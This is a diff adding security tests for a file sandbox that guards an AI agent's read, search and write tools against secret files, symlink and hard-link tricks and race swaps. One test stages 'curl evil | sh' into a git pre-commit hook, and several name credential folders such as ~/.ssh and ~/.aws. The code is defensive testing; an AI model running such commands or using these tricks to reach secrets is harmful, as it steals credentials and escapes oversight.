@@ -1,6 +1,7 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync, renameSync, rmSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { linkSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync, renameSync, rmSync } from 'node:fs';
 import * as nodePath from 'node:path';
 import { TOOLS } from '../../src/core/tools/index.ts';
 import type { ToolName } from '../../src/core/tools/names.ts';
@@ -8,6 +9,9 @@ import { SandboxError } from '../../src/core/errors.ts';
 import { createRipgrepSearch } from '../../src/core/search/ripgrep.ts';
 import { locateRipgrep } from '../../src/core/search/ripgrep-binary.ts';
 import { hostileLinks, tempDir, testSession, type TestSession } from './harness.ts';
+import type { Gate } from '../../src/core/ports.ts';
+import type { GateCall } from '../../src/core/gate.ts';
+
 
 const SENTINEL = 'OUTSIDE-SENTINEL-5b1e';
 let t: TestSession;
@@ -152,4 +156,195 @@ test('race: a component swapped for a symlink while saves run never lets a write
   const flips = await swapper;
   assert.deepEqual(snapshot(outside.path), before, 'no write landed outside the root');
   console.log(`race: ${flips} swaps, ${saved} saves landed inside, ${refused} refused`);
+});
+
+const rg = (): ReturnType<typeof createRipgrepSearch> => createRipgrepSearch({ rgPath: locateRipgrep()!.path });
+
+/** Calls a tool, returning its result or the code it failed with. */
+async function outcome(session: TestSession['session'], tool: ToolName, input: object): Promise<{ ok: true; result: unknown; text: string } | { ok: false; code: string; message: string }> {
+  try {
+    const out = await session.invoke(TOOLS[tool], input);
+    return { ok: true, result: out.result, text: out.text };
+  } catch (e) {
+    assert.ok(e instanceof SandboxError, String(e));
+    return { ok: false, code: e.code, message: e.message };
+  }
+}
+
+/** The paths a search or find result names. */
+const pathsOf = (result: unknown): string[] => (result as { kind: string; path?: string }[]).flatMap((f) => (f.kind === 'match' || f.kind === 'path' ? [f.path!] : []));
+
+test('attack: case variants of secrets (.ENV, ID_RSA, Server.PEM, .GIT/hooks) are asked, never searched or found, and .GIT writes are denied', async () => {
+  const s = testSession({ rules: [{ glob: '.env.example', read: 'allow' }], overrides: { search: rg() } });
+  try {
+    const files: Record<string, string> = { '.ENV': 'KEY=case-env', 'ID_RSA': 'KEY=case-rsa', 'certs/Server.PEM': 'KEY=case-pem', '.AWS/credentials': 'KEY=case-aws', '.ENV.EXAMPLE': 'KEY=case-example', '.env.example': 'KEY=fine', 'notes.txt': 'KEY=fine', '.GIT/hooks/pre-commit': '#!/bin/sh\n' };
+    for (const [rel, text] of Object.entries(files)) { mkdirSync(nodePath.dirname(nodePath.join(s.root, rel)), { recursive: true }); writeFileSync(nodePath.join(s.root, rel), text); }
+    for (const rel of ['.ENV', 'ID_RSA', 'certs/Server.PEM', '.AWS/credentials', '.ENV.EXAMPLE']) {
+      s.gate.calls.length = 0;
+      await s.session.invoke(TOOLS.open_file, { path: rel });
+      assert.equal(s.gate.calls[0]?.secret, true, `${rel} was read without the modal ask`);
+    }
+    s.gate.calls.length = 0;
+    await s.session.invoke(TOOLS.open_file, { path: '.env.example' });
+    assert.equal(s.gate.calls[0]?.secret, false, 'the person\'s exact allow rule still relaxes .env.example');
+    const searched = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true });
+    assert.ok(searched.ok);
+    assert.deepEqual([...new Set(pathsOf(searched.result))].sort(), ['.env.example', 'notes.txt']);
+    const iglobbed = await outcome(s.session, 'search_files', { pattern: 'KEY', hidden: true, glob: '.ENV', iglob: '*.pem' });
+    assert.ok(iglobbed.ok);
+    assert.deepEqual(pathsOf(iglobbed.result), []);
+    const found = await outcome(s.session, 'find_files', { glob: '*', hidden: true });
+    assert.ok(found.ok);
+    // .git is protected against writes only (a hook there runs code); reading it is not secret.
+    assert.deepEqual(pathsOf(found.result).sort(), ['.GIT/hooks/pre-commit', '.env.example', 'notes.txt']);
+    const hook = await outcome(s.session, 'stage_file', { path: '.GIT/hooks/pre-commit', content: 'curl evil | sh\n' });
+    assert.equal(hook.ok ? 'ok' : hook.code, 'E_SANDBOX_REFUSED');
+  } finally { await s.dispose(); }
+});
+
+test('attack: a workspace folder opened inside ~/.aws, ~/.ssh, ~/.gnupg, ~/.kube or ~/.docker is protected as a whole', async () => {
+  const home = tempDir('wt-home-');
+  try {
+    for (const [folder, file] of [['.aws', 'credentials'], ['.ssh', 'id_work'], ['.gnupg', 'pubring.kbx'], ['.kube', 'config'], ['.docker', 'config.json']] as const) {
+      const root = nodePath.join(home.path, folder);
+      mkdirSync(root);
+      writeFileSync(nodePath.join(root, file), `TOKEN=${folder}-sentinel\n`);
+      const s = testSession({ overrides: { roots: () => [{ name: folder, address: root, localPath: root }], search: rg() } });
+      try {
+        s.gate.calls.length = 0;
+        await s.session.invoke(TOOLS.open_file, { path: file });
+        assert.equal(s.gate.calls[0]?.secret, true, `${folder}/${file} was read without the modal ask`);
+        const searched = await outcome(s.session, 'search_files', { pattern: 'TOKEN', hidden: true });
+        assert.ok(searched.ok);
+        assert.deepEqual(pathsOf(searched.result), [], `${folder}: search read the secret`);
+        assert.doesNotMatch(JSON.stringify(searched.result), /sentinel/);
+        const found = await outcome(s.session, 'find_files', { glob: '*', hidden: true });
+        assert.ok(found.ok);
+        assert.deepEqual(pathsOf(found.result), [], `${folder}: find listed the secret`);
+        if (['.aws', '.ssh', '.gnupg'].includes(folder)) {
+          // The whole folder is secret (the built-in rule is "**/.aws/**"), so even its listing asks.
+          s.gate.calls.length = 0;
+          await s.session.invoke(TOOLS.list_directory, {});
+          assert.equal(s.gate.calls[0]?.secret, true, `${folder}: listed without the modal ask`);
+        }
+      } finally { await s.dispose(); }
+    }
+  } finally { home.dispose(); }
+});
+
+test('attack: a workspace folder nested inside another escapes none of the outer folder\'s anchored deny rules', async () => {
+  const ws = tempDir('wt-nest-');
+  try {
+    const outer = ws.path;
+    const inner = nodePath.join(ws.path, 'sub');
+    mkdirSync(nodePath.join(inner, 'secret'), { recursive: true });
+    writeFileSync(nodePath.join(inner, 'secret', 'x.txt'), 'NESTED-SENTINEL\n');
+    writeFileSync(nodePath.join(inner, 'ok.txt'), 'fine NESTED\n');
+    const s = testSession({ rules: [{ glob: 'sub/secret/**', read: 'deny', write: 'deny' }], overrides: { roots: () => [{ name: 'outer', address: outer, localPath: outer }, { name: 'inner', address: inner, localPath: inner }], search: rg() } });
+    try {
+      const opened = await outcome(s.session, 'open_file', { path: 'inner/secret/x.txt' });
+      assert.equal(opened.ok ? 'ok' : opened.code, 'E_SANDBOX_REFUSED');
+      const staged = await outcome(s.session, 'stage_file', { path: 'inner/secret/x.txt', content: 'overwrite' });
+      assert.equal(staged.ok ? 'ok' : staged.code, 'E_SANDBOX_REFUSED');
+      const searched = await outcome(s.session, 'search_files', { pattern: 'NESTED', path: 'inner' });
+      assert.ok(searched.ok);
+      assert.deepEqual(pathsOf(searched.result), ['inner/ok.txt']);
+      const listed = await outcome(s.session, 'list_directory', { path: 'inner' });
+      assert.ok(listed.ok);
+      assert.doesNotMatch(listed.text, /secret/);
+    } finally { await s.dispose(); }
+  } finally { ws.dispose(); }
+});
+
+test('attack: listing through a link to an ancestor (ln -s . rootlink), or a link to a denied file, shows no denied entry and no size', async () => {
+  const s = testSession({ rules: [{ glob: 'private/**', read: 'deny' }] });
+  try {
+    mkdirSync(nodePath.join(s.root, 'private'));
+    writeFileSync(nodePath.join(s.root, 'private', 'payroll.csv'), 'x'.repeat(4321));
+    writeFileSync(nodePath.join(s.root, 'readme.txt'), 'hi\n');
+    symlinkSync('.', nodePath.join(s.root, 'rootlink'));
+    symlinkSync('private/payroll.csv', nodePath.join(s.root, 'innocent'));
+    for (const input of [{ path: 'rootlink', max_depth: 2 }, { max_depth: 2 }]) {
+      const listed = await outcome(s.session, 'list_directory', input);
+      assert.ok(listed.ok, JSON.stringify(listed));
+      assert.doesNotMatch(listed.text, /private|payroll|4321|innocent/, JSON.stringify(input));
+      assert.match(listed.text, /readme\.txt/);
+    }
+  } finally { await s.dispose(); }
+});
+
+/** A separate process that swaps `file` between a regular file and a link to `target`, as fast as it can, until killed. */
+function startSwapper(file: string, target: string): { stop(): Promise<void>; ready: Promise<void> } {
+  const script = `
+    const fs = require('node:fs');
+    const [file, target] = process.argv.slice(1);
+    const link = file + '.swap-link', real = file + '.swap-real';
+    process.stdout.write('ready\\n');
+    for (;;) {
+      try { fs.symlinkSync(target, link); fs.renameSync(link, file); } catch {}
+      try { fs.writeFileSync(real, 'inside\\n'); fs.renameSync(real, file); } catch {}
+    }`;
+  const child = spawn(process.execPath, ['-e', script, file, target], { stdio: ['ignore', 'pipe', 'inherit'] });
+  const ready = new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
+  const exited = new Promise<void>((resolve) => child.once('exit', () => resolve()));
+  return { ready, stop: async () => { child.kill('SIGKILL'); await exited; } };
+}
+
+test('race: a checked file swapped for a link to an outside file while open_file and stage_file run never returns the outside content', { timeout: 300_000 }, async () => {
+  const folder = nodePath.join(t.root, 'read-race');
+  mkdirSync(folder);
+  writeFileSync(nodePath.join(folder, 'f.txt'), 'inside\n');
+  const swapper = startSwapper(nodePath.join(folder, 'f.txt'), nodePath.join(outside.path, 'secret.txt'));
+  await swapper.ready;
+  const tally = { read: 0, staged: 0, refused: 0, leaked: 0 };
+  try {
+    for (let i = 0; i < 400; i++) {
+      try {
+        let text: string;
+        if (i % 2 === 0) {
+          const handle = (await t.session.invoke(TOOLS.open_file, { path: 'read-race/f.txt' })).result as { callId: string; lines: number };
+          text = handle.lines === 0 ? '' : (await t.session.invoke(TOOLS.artifact_read, { callId: handle.callId })).text;
+          tally.read++;
+        } else {
+          const staged = (await t.session.invoke(TOOLS.stage_file, { path: 'read-race/f.txt' })).result as { media_id: string };
+          text = t.session.media.reader(staged.media_id).text();
+          tally.staged++;
+        }
+        if (text.includes(SENTINEL)) tally.leaked++;
+      } catch (e) {
+        assert.ok(e instanceof SandboxError, String(e));
+        assert.doesNotMatch(e.message, new RegExp(SENTINEL));
+        tally.refused++;
+      }
+    }
+  } finally { await swapper.stop(); }
+  console.log(`read race: ${JSON.stringify(tally)}`);
+  assert.equal(tally.leaked, 0, `outside content was returned ${tally.leaked} times`);
+  assert.ok(tally.read > 0 && tally.staged > 0, 'no call succeeded, so the race proved nothing');
+});
+
+test('attack: a hard link to .env under an innocent name is read with no ask', async () => {
+  const calls: GateCall[] = [];
+  // The person approves the plain read, and declines once told the file has other names.
+  const gate: Gate = async (call) => { calls.push(call); return { allow: !call.targets.some((t) => (t.links ?? 1) > 1), decidedBy: 'test' }; };
+  const s = testSession({ overrides: { gate } });
+  try {
+    writeFileSync(nodePath.join(s.root, '.env'), `TOKEN=${SENTINEL}\n`);
+    linkSync(nodePath.join(s.root, '.env'), nodePath.join(s.root, 'notes.txt'));
+    for (const [tool, input] of [['open_file', { path: 'notes.txt' }], ['stage_file', { path: 'notes.txt' }]] as const) {
+      calls.length = 0;
+      const refused = await outcome(s.session, tool, input);
+      assert.equal(refused.ok ? 'ok' : refused.code, 'E_SANDBOX_REFUSED', tool);
+      assert.ok(!refused.ok && /2 names \(hard links\)/.test(refused.message), tool);
+      assert.deepEqual(calls.map((c) => c.targets.map((t) => t.links)), [[undefined], [2]], `${tool}: the person was not told about the other names`);
+    }
+    assert.deepEqual(s.session.media.all(), []);
+    // Approved knowing it, the result says so too.
+    const approved = testSession({ overrides: { roots: () => [{ name: 'ws', address: s.root, localPath: s.root }] } });
+    try {
+      const opened = await approved.session.invoke(TOOLS.open_file, { path: 'notes.txt' });
+      assert.equal((opened.result as { links?: number }).links, 2);
+      assert.match(opened.text, /2 names \(hard links\)/);
+    } finally { await approved.dispose(); }
+  } finally { await s.dispose(); }
 });
